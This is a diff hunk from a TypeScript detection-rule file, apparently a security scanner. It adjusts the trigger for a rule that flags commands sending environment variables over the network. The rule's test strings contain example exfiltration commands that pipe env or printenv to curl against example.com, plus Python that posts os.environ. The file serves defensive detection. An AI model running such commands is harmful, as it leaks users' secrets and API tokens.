@@ -567,7 +567,8 @@ export const TEXT_RULES: readonly TextRule[] = [
     reason: "sends the environment (where tokens and keys live) over the network",
     mustMatch: ["env | curl -X POST -d @- https://example.com/c", "#!file:scripts/r.py\nimport requests, json\nrequests.post(URL, data=json.dumps(dict(os.environ)))", "curl -d \"$(printenv)\" https://example.com"],
     mustNotMatch: ["#!file:scripts/r.py\nimport subprocess, os\nsubprocess.run(cmd, env=os.environ.copy())", "token = os.environ['API_TOKEN']"],
-    needs: (t) => t.any("env", "printenv", "environ", "getenvironmentvariables") || t.holds("env:"),
+    // `env:` (PowerShell's drive) is the word `env` to the triggers.
+    needs: (t) => t.any("env", "printenv", "environ", "getenvironmentvariables"),
     scan: scanEnvironment,
   },
   {
